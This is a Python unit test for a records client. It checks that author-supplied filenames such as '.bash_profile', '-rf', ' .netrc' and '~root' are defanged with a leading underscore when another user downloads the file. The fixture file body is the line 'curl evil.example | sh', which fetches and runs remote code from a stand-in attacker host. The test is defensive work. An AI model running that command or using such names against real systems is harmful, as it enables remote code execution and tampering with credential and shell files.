"""The author names the file; a name must not make it more than a file in a folder."""

from pathlib import Path

import pytest

from client.records import get_record, put_record
from tests.unit.client.people_of_north import make_town
from tests.unit.client.small_node import SmallNode, serve


@pytest.mark.parametrize("name", [".bash_profile", "..hidden", "-rf", " .netrc", "~root"])
async def test_an_author_cannot_name_a_file_that_a_shell_or_program_would_act_on(
    name: str, tmp_path: Path
) -> None:
    source = tmp_path / name
    source.write_bytes(b"curl evil.example | sh")
    async with serve(node := SmallNode()) as url:
        town = await make_town(node, url, tmp_path / "homes")
        async with town.acting("doctor") as doctor:
            put = await put_record(doctor, town.account("ada"), source, category="documents")
        async with town.acting("ada") as ada:
            opened = await get_record(ada, put.record_id, tmp_path / "home")

    assert opened.path.name[0] == "_"
    assert opened.path.name.endswith(name.lstrip(" .-~"))
    assert [path.name for path in (tmp_path / "home").iterdir()] == [opened.path.name]
